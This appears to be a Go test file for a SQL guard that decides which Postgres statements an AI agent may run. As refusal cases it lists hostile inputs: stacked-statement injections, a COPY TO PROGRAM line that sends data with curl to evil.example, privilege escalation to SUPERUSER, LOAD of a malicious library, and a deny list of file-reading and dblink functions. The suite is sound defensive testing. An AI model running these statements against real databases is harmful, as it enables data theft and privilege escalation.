		{name: "CreatesFunctionInNamedSchema", sql: "CREATE OR REPLACE FUNCTION billing.total(int) RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'", kind: "ddl",
			ops: []string{"ddl billing.total"}},
		{name: "JudgesSQLStandardFunctionBody", sql: "CREATE FUNCTION purge() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END", kind: "ddl",
			ops: []string{"ddl public.purge", "delete public.orders"}},
		{name: "JudgesSQLStandardReturnBody", sql: "CREATE FUNCTION n() RETURNS bigint RETURN (SELECT count(*) FROM secrets)", kind: "ddl",
			ops: []string{"ddl public.n", "select public.secrets"}, funcs: []string{"pg_catalog.count"}},
		{name: "AltersFunction", sql: "ALTER FUNCTION cleanup() SECURITY DEFINER", kind: "ddl", ops: []string{"ddl public.cleanup"}},
		{name: "CreatesTriggerAndJudgesItsFunction", sql: "CREATE TRIGGER audit BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION audit.log_change()", kind: "ddl",
			ops: []string{"ddl public.orders", "execute audit.log_change"}, funcs: []string{"audit.log_change"}},
		{name: "CreatesRuleAndJudgesItsActions", sql: "CREATE RULE keep AS ON DELETE TO orders DO INSTEAD UPDATE orders SET deleted = true WHERE id = OLD.id", kind: "ddl",
			ops: []string{"ddl public.orders", "update public.orders"}},
		{name: "CreatesPolicyAndReadsItsSubquery", sql: "CREATE POLICY own ON orders USING (customer_id IN (SELECT id FROM customers WHERE owner = current_user))", kind: "ddl",
			ops: []string{"ddl public.orders", "select public.customers"}},
		{name: "RefreshesMaterializedView", sql: "REFRESH MATERIALIZED VIEW CONCURRENTLY reporting.totals", kind: "ddl", ops: []string{"ddl reporting.totals"}},
		{name: "CreatesStatistics", sql: "CREATE STATISTICS s1 (dependencies) ON a, b FROM orders", kind: "ddl", ops: []string{"ddl public.orders", "ddl public.s1"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := Analyze(tc.sql, testNames)
			if err != nil {
				t.Fatalf("Analyze(%q) error = %v; want none", tc.sql, err)
			}
			if got.Kind != tc.kind {
				t.Errorf("Analyze(%q) kind = %q; want %q", tc.sql, got.Kind, tc.kind)
			}
			if ops := opStrings(got.Ops); !slices.Equal(ops, tc.ops) {
				t.Errorf("Analyze(%q) ops = %v; want %v", tc.sql, ops, tc.ops)
			}
			if !slices.Equal(got.Functions, tc.funcs) {
				t.Errorf("Analyze(%q) functions = %v; want %v", tc.sql, got.Functions, tc.funcs)
			}
			if want := wantReadOnly(tc.ops); got.ReadOnly != want {
				t.Errorf("Analyze(%q) read-only = %v; want %v", tc.sql, got.ReadOnly, want)
			}
		})
	}
}

func opStrings(ops []warden.Op) []string {
	var s []string
	for _, op := range ops {
		s = append(s, op.String())
	}
	return s
}

// TestAnalyzeMarksWritesWithoutWhere: an UPDATE or DELETE with no WHERE
// touches every row, and approval rules can hold exactly those
// (update_without_where, delete_without_where). WHERE true still counts
// as filtered: rows_above is the rule for statements that are filtered
// but large.
func TestAnalyzeMarksWritesWithoutWhere(t *testing.T) {
	cases := []struct {
		name, sql  string
		unfiltered []string // Describe() of every unfiltered op
	}{
		{"UpdateWithoutWhere", "UPDATE orders SET total = 0", []string{"update public.orders (every row: no WHERE)"}},
		{"DeleteWithoutWhere", "DELETE FROM orders", []string{"delete public.orders (every row: no WHERE)"}},
		{"DeleteUsingWithoutWhere", "DELETE FROM orders USING customers", []string{"delete public.orders (every row: no WHERE)"}},
		{"DeleteWithoutWhereInCTE", "WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d", []string{"delete public.orders (every row: no WHERE)"}},
		{"UpdateWithWhere", "UPDATE orders SET total = 0 WHERE id = 1", nil},
		{"UpdateWhereTrue", "UPDATE orders SET total = 0 WHERE true", nil},
		{"DeleteWithWhere", "DELETE FROM orders WHERE id = 1", nil},
		{"UpsertIsNotUnfiltered", "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = 0", nil},
		{"TruncateIsItsOwnVerb", "TRUNCATE orders", nil},
		{"ExplainOnlyReads", "EXPLAIN DELETE FROM orders", nil},
		{"ExplainAnalyzeRuns", "EXPLAIN ANALYZE DELETE FROM orders", []string{"delete public.orders (every row: no WHERE)"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Analyze(tc.sql, testNames)
			if err != nil {
				t.Fatalf("Analyze(%q) = %v", tc.sql, err)
			}
			var unfiltered []string
			for _, op := range got.Ops {
				if op.Unfiltered {
					unfiltered = append(unfiltered, op.Describe())
				}
			}
			if !slices.Equal(unfiltered, tc.unfiltered) {
				t.Errorf("Analyze(%q) unfiltered ops = %v; want %v", tc.sql, unfiltered, tc.unfiltered)
			}
		})
	}
}

// wantReadOnly is the spec for Analysis.ReadOnly: no op writes.
func wantReadOnly(ops []string) bool {
	for _, op := range ops {
		verb, _, _ := strings.Cut(op, " ")
		if verb != warden.VerbSelect && verb != warden.VerbExecute {
			return false
		}
	}
	return true
}

func TestAnalyzeRefuses(t *testing.T) {
	cases := []struct {
		name string
		sql  string
		why  string // a phrase the agent-facing message must contain
	}{
		// Stacked statements.
		{"DeniesTwoStatements", "SELECT 1; SELECT 2", "send exactly one statement per call; found 2"},
		{"DeniesStatementStackedAfterLineComment", "SELECT 1 -- harmless\n; DELETE FROM orders", "found 2"},
		{"DeniesStatementStackedAfterString", "SELECT 'a;b'; DELETE FROM orders", "found 2"},
		{"DeniesStatementStackedAfterBackslashInStandardString", `SELECT 'a\'; DELETE FROM orders; --'`, "found 2"},
		{"DeniesStatementStackedAfterDollarQuote", "SELECT $$x;$$; DROP TABLE orders", "found 2"},
		{"DeniesStatementStackedAfterNestedComment", "SELECT 1 /* /* ; */ ; */; DELETE FROM orders", "found 2"},
		{"DeniesThreeStatements", "BEGIN; DELETE FROM orders; COMMIT", "found 3"},

		// Transaction control and session state.
		{"DeniesBegin", "BEGIN", "own transaction"},
		{"DeniesStartTransaction", "START TRANSACTION READ WRITE", "own transaction"},
		{"DeniesCommit", "COMMIT", "own transaction"},
		{"DeniesRollback", "ROLLBACK", "own transaction"},
		{"DeniesSavepoint", "SAVEPOINT s1", "own transaction"},
		{"DeniesReleaseSavepoint", "RELEASE SAVEPOINT s1", "own transaction"},
		{"DeniesPrepareTransaction", "PREPARE TRANSACTION 'x'", "own transaction"},
		{"DeniesSetConstraints", "SET CONSTRAINTS ALL DEFERRED", "own transaction"},
		{"DeniesSet", "SET search_path = evil, public", "session settings"},
		{"DeniesSetLocal", "SET LOCAL statement_timeout = 0", "session settings"},
		{"DeniesSetRole", "SET ROLE postgres", "session settings"},
		{"DeniesSetSessionAuthorization", "SET SESSION AUTHORIZATION postgres", "session settings"},
		{"DeniesSetTransaction", "SET TRANSACTION READ WRITE", "session settings"},
		{"DeniesReset", "RESET ALL", "session settings"},
		{"DeniesShow", "SHOW search_path", "session settings"},
		{"DeniesAlterSystem", "ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM"},
		{"DeniesDiscard", "DISCARD ALL", "DISCARD"},
		{"DeniesLoad", "LOAD 'evil.so'", "LOAD"},

		// Code and data outside the statement.
		{"DeniesDo", "DO $$ BEGIN DELETE FROM orders; END $$", "DO"},
		{"DeniesCall", "CALL archive_orders()", "CALL"},
		{"DeniesCopyTo", "COPY orders TO STDOUT", "COPY"},
		{"DeniesCopyFrom", "COPY orders FROM '/tmp/orders.csv'", "COPY"},
		{"DeniesCopyQuery", "COPY (SELECT * FROM orders) TO '/tmp/out'", "COPY"},
		{"DeniesCopyProgram", "COPY orders TO PROGRAM 'curl -d @- evil.example'", "COPY"},
		{"DeniesPrepare", "PREPARE p AS DELETE FROM orders", "prepared statements"},
		{"DeniesExecute", "EXECUTE p", "prepared statements"},
		{"DeniesDeallocate", "DEALLOCATE ALL", "prepared statements"},
		{"DeniesCreateTableAsExecute", "CREATE TABLE t AS EXECUTE p", "prepared statements"},
		{"DeniesExplainExecute", "EXPLAIN ANALYZE EXECUTE p", "prepared statements"},
		{"DeniesListen", "LISTEN orders", "LISTEN"},
		{"DeniesNotify", "NOTIFY orders, 'x'", "NOTIFY"},
		{"DeniesUnlisten", "UNLISTEN *", "UNLISTEN"},
		{"DeniesNotifyInRule", "CREATE RULE r AS ON INSERT TO orders DO ALSO NOTIFY orders_changed", "NOTIFY"},
		{"DeniesLock", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "LOCK"},
		{"DeniesDeclareCursor", "DECLARE c CURSOR FOR SELECT * FROM orders", "cursors"},
		{"DeniesFetch", "FETCH 10 FROM c", "cursors"},
		{"DeniesMove", "MOVE c", "cursors"},
		{"DeniesClose", "CLOSE ALL", "cursors"},

		// Maintenance.
		{"DeniesVacuum", "VACUUM FULL orders", "maintenance"},
		{"DeniesAnalyze", "ANALYZE orders", "maintenance"},
		{"DeniesCluster", "CLUSTER orders USING orders_pkey", "maintenance"},
		{"DeniesReindex", "REINDEX TABLE orders", "maintenance"},
		{"DeniesCheckpoint", "CHECKPOINT", "maintenance"},

		// Administration.
		{"DeniesCreateRole", "CREATE ROLE agent LOGIN SUPERUSER", "administrative"},
		{"DeniesCreateUser", "CREATE USER agent PASSWORD 'x'", "administrative"},
		{"DeniesAlterRole", "ALTER ROLE agent SUPERUSER", "administrative"},
		{"DeniesAlterRoleSet", "ALTER ROLE agent SET search_path = evil", "administrative"},
		{"DeniesDropRole", "DROP ROLE agent", "administrative"},
		{"DeniesGrant", "GRANT SELECT ON orders TO agent", "administrative"},
		{"DeniesRevoke", "REVOKE ALL ON orders FROM PUBLIC", "administrative"},
		{"DeniesGrantRole", "GRANT pg_read_server_files TO agent", "administrative"},
		{"DeniesAlterDefaultPrivileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent", "administrative"},
		{"DeniesAlterOwner", "ALTER TABLE orders OWNER TO agent", "administrative"},
		{"DeniesAlterFunctionOwner", "ALTER FUNCTION cleanup() OWNER TO agent", "administrative"},
		{"DeniesReassignOwned", "REASSIGN OWNED BY a TO b", "administrative"},
		{"DeniesDropOwned", "DROP OWNED BY a", "administrative"},
		{"DeniesCreateDatabase", "CREATE DATABASE evil", "administrative"},
		{"DeniesAlterDatabase", "ALTER DATABASE shop SET search_path = evil", "administrative"},
		{"DeniesDropDatabase", "DROP DATABASE shop", "administrative"},
		{"DeniesCommentOnDatabase", "COMMENT ON DATABASE shop IS 'x'", "administrative"},
		{"DeniesCreateTablespace", "CREATE TABLESPACE t LOCATION '/tmp'", "administrative"},
		{"DeniesCreateExtension", "CREATE EXTENSION dblink", "administrative"},
		{"DeniesAlterExtension", "ALTER EXTENSION dblink UPDATE", "administrative"},
		{"DeniesDropExtension", "DROP EXTENSION dblink", "administrative"},
		{"DeniesCreateSubscription", "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "administrative"},
		{"DeniesCreatePublication", "CREATE PUBLICATION p FOR ALL TABLES", "administrative"},
		{"DeniesCreateServer", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "administrative"},
		{"DeniesCreateUserMapping", "CREATE USER MAPPING FOR agent SERVER s OPTIONS (user 'x')", "administrative"},
		{"DeniesCreateForeignDataWrapper", "CREATE FOREIGN DATA WRAPPER w", "administrative"},
		{"DeniesCreateForeignTable", "CREATE FOREIGN TABLE f (a int) SERVER s", "administrative"},
		{"DeniesImportForeignSchema", "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public", "administrative"},
		{"DeniesCreateEventTrigger", "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", "administrative"},
		{"DeniesCreateLanguage", "CREATE LANGUAGE plperlu", "administrative"},
		{"DeniesCreateCast", "CREATE CAST (text AS int) WITH FUNCTION f(text)", "administrative"},
		{"DeniesSecurityLabel", "SECURITY LABEL ON TABLE orders IS 'x'", "administrative"},
		{"DeniesCreateSchemaAuthorization", "CREATE SCHEMA s AUTHORIZATION agent", "administrative"},

		// Temporary objects.
		{"DeniesCreateTempTable", "CREATE TEMP TABLE t (id int)", "temporary"},
		{"DeniesCreateTemporaryTable", "CREATE TEMPORARY TABLE t (id int)", "temporary"},
		{"DeniesCreateLocalTempTable", "CREATE LOCAL TEMP TABLE t (id int)", "temporary"},
		{"DeniesCreateGlobalTemporaryTable", "CREATE GLOBAL TEMPORARY TABLE t (id int)", "temporary"},
		{"DeniesCreateTempTableAs", "CREATE TEMP TABLE t AS SELECT * FROM orders", "temporary"},
		{"DeniesCreateTempView", "CREATE TEMP VIEW v AS SELECT * FROM orders", "temporary"},
		{"DeniesCreateTempSequence", "CREATE TEMPORARY SEQUENCE s", "temporary"},
		{"DeniesSelectIntoTemp", "SELECT * INTO TEMP t FROM orders", "temporary"},
		{"DeniesSelectIntoTemporaryTable", "SELECT * INTO TEMPORARY TABLE t FROM orders", "temporary"},
		{"DeniesTableInPgTemp", "CREATE TABLE pg_temp.t (id int)", "temporary"},
		{"DeniesFunctionInPgTemp", "CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "temporary"},
		{"DeniesExplainOfTempTable", "EXPLAIN CREATE TEMP TABLE t AS SELECT 1", "temporary"},

		// Names outside the backend's database.
		{"DeniesCrossDatabaseRead", "SELECT * FROM otherdb.public.orders", "cross-database"},
		{"DeniesCrossDatabaseReadInSubquery", "SELECT * FROM orders WHERE id IN (SELECT id FROM otherdb.public.orders)", "cross-database"},
		{"DeniesCrossDatabaseInsert", "INSERT INTO otherdb.public.orders VALUES (1)", "cross-database"},
		{"DeniesCrossDatabaseFunction", "SELECT otherdb.public.f()", "cross-database"},
		{"DeniesCrossDatabaseDrop", "DROP TABLE otherdb.public.orders", "cross-database"},

		// Effects on objects the statement does not name.
		{"DeniesTruncateCascade", "TRUNCATE orders CASCADE", "CASCADE"},
		{"DeniesDropCascade", "DROP TABLE orders CASCADE", "CASCADE"},
		{"DeniesDropColumnCascade", "ALTER TABLE orders DROP COLUMN total CASCADE", "CASCADE"},
		{"DeniesCreateSchemaWithElements", "CREATE SCHEMA s CREATE TABLE t (id int)", "CREATE SCHEMA"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := Analyze(tc.sql, testNames)
			var e *warden.Error
			if !errors.As(err, &e) {
				t.Fatalf("Analyze(%q) = %+v, %v; want a *warden.Error", tc.sql, got, err)
			}
			if e.Code != warden.Denied || e.Rule != ruleStatement {
				t.Fatalf("Analyze(%q) error = %v (code %q, rule %q); want code %q, rule %q", tc.sql, e, e.Code, e.Rule, warden.Denied, ruleStatement)
			}
			if !strings.Contains(e.Message, tc.why) {
				t.Errorf("Analyze(%q) message = %q; want it to contain %q", tc.sql, e.Message, tc.why)
			}
		})
	}
}

func TestAnalyzeInvalid(t *testing.T) {
	cases := []struct {
		name string
		sql  string
		why  string
	}{
		{"RejectsSyntaxErrorWithPosition", "SELECT * FORM orders", `syntax error at or near "FORM" (at character 10)`},
		{"RejectsUnterminatedString", "SELECT 'abc", "unterminated quoted string"},
		{"RejectsUnterminatedComment", "SELECT 1 /* /* */", "unterminated /* comment"},
		{"RejectsEmptyStatement", "", "empty"},
		{"RejectsWhitespace", " \n\t", "empty"},
		{"RejectsLoneSemicolon", ";", "empty"},
		{"RejectsOnlyComment", "-- SELECT 1", "empty"},
		{"RejectsNULByte", "SELECT 1\x00; DELETE FROM orders", "NUL"},
		{"RejectsUnresolvableRelation", "SELECT * FROM nowhere", `"nowhere" does not resolve`},
		{"RejectsUnresolvableFunction", "SELECT nowhere()", `"nowhere" does not resolve`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := Analyze(tc.sql, testNames)
			var e *warden.Error
			if !errors.As(err, &e) {
				t.Fatalf("Analyze(%q) = %+v, %v; want a *warden.Error", tc.sql, got, err)
			}
			if e.Code != warden.Invalid {
				t.Fatalf("Analyze(%q) error = %v (code %q); want code %q", tc.sql, e, e.Code, warden.Invalid)
			}
			if !strings.Contains(e.Message, tc.why) {
				t.Errorf("Analyze(%q) message = %q; want it to contain %q", tc.sql, e.Message, tc.why)
			}
		})
	}
}

// TestAnalyzeWithoutNames: with nothing to resolve names, an unqualified
// name is refused rather than guessed.
func TestAnalyzeWithoutNames(t *testing.T) {
	if _, err := Analyze("SELECT * FROM orders", nil); warden.ErrorCode(err) != warden.Invalid {
		t.Errorf("Analyze(%q, nil) error = %v; want code %q", "SELECT * FROM orders", err, warden.Invalid)
	}
	got, err := Analyze("SELECT * FROM sales.orders", nil)
	if err != nil {
		t.Fatalf("Analyze(%q, nil) error = %v; want none", "SELECT * FROM sales.orders", err)
	}
	if ops := opStrings(got.Ops); !slices.Equal(ops, []string{"select sales.orders"}) {
		t.Errorf("Analyze(%q, nil) ops = %v; want [select sales.orders]", "SELECT * FROM sales.orders", ops)
	}
}

func TestAllowedFunctions(t *testing.T) {
	// Functions about the server rather than the data: none may run
	// without a grant naming it.
	for _, name := range []string{
		"pg_read_file", "pg_read_binary_file", "pg_ls_dir", "pg_ls_waldir", "pg_stat_file", "lo_export", "lo_import", "loread",
		"lowrite", "pg_promote", "pg_copy_physical_replication_slot", "pg_replication_origin_create",
		"pg_logical_emit_message", "pg_backup_start", "pg_wal_replay_pause", "binary_upgrade_set_next_pg_type_oid",
		"pg_advisory_lock", "pg_advisory_unlock_all", "pg_notify", "nextval", "setval", "currval", "lastval",
		"query_to_xml", "query_to_xmlschema", "table_to_xml", "cursor_to_xml", "database_to_xml_and_xmlschema", "ts_stat", "ts_rewrite",
		"pg_stat_get_activity", "pg_stat_get_backend_activity", "pg_hba_file_rules", "pg_show_all_file_settings",
		"pg_show_all_settings", "pg_get_functiondef", "pg_get_viewdef", "pg_get_triggerdef", "pg_get_indexdef",
		"obj_description", "col_description", "current_setting", "set_config", "setseed", "txid_current",
		"txid_current_snapshot", "pg_current_xact_id", "pg_terminate_backend", "pg_cancel_backend", "pg_reload_conf",
		"has_table_privilege", "to_regclass", "regclass", "version", "inet_server_addr", "pg_backend_pid",
		"dblink", "dblink_exec", "json_scalar", "pg_sleep_until_forever", "amvalidate", "fmgr_sql_validator",
	} {
		if allowedFunction(name) {
			t.Errorf("allowedFunction(%q) = true; want false", name)
		}
	}
	for _, name := range []string{
		"now", "upper", "lower", "count", "sum", "avg", "row_number", "rank", "lag", "percentile_cont",
		"jsonb_build_object", "json_agg", "jsonb_path_query", "date_trunc", "extract", "btrim", "substring",
		"overlay", "position", "regexp_replace", "string_agg", "array_agg", "unnest",
		"generate_series", "round", "to_char", "sha256", "random", "gen_random_uuid", "pg_typeof", "pg_sleep",
	} {
		if !allowedFunction(name) {
			t.Errorf("allowedFunction(%q) = false; want true", name)
		}
	}
	if len(allowedFunctions) < 1000 {
		t.Errorf("the allow-list has %d names; want the generated list (about 1500)", len(allowedFunctions))
	}
}

// TestAnalysisCacheBounded: the cache of analyses keeps its bytes under
// maxCachedBytes however large the statements, and still answers a
// repeated statement from the cache.
func TestAnalysisCacheBounded(t *testing.T) {
	n := &names{searchPath: []string{"public"}}
	// Long in bytes, cheap to analyse: one literal of 60 KB.
	big := func(i int) string {
		return fmt.Sprintf("SELECT %d AS n, a FROM t WHERE a = '%s'", i, strings.Repeat("x", 60000))
	}
	for i := range 50 {
		if _, err := n.analyze(context.Background(), big(i), 0); err != nil {
			t.Fatal(err)
		}
		n.mu.Lock()
		bytes, entries := n.cachedBytes, len(n.analyses)
		n.mu.Unlock()
		if bytes > maxCachedBytes || entries > maxCachedAnalyses {
			t.Fatalf("after %d statements the cache holds %d bytes in %d entries; at most %d bytes", i+1, bytes, entries, maxCachedBytes)
		}
	}
	const small = "SELECT a FROM t WHERE a = $1"
	first, err := n.analyze(context.Background(), small, 1)
	if err != nil {
		t.Fatal(err)
	}
	if again, _ := n.analyze(context.Background(), small, 1); again != first {
		t.Error("a repeated statement was analysed again instead of answered from the cache")
	}
}
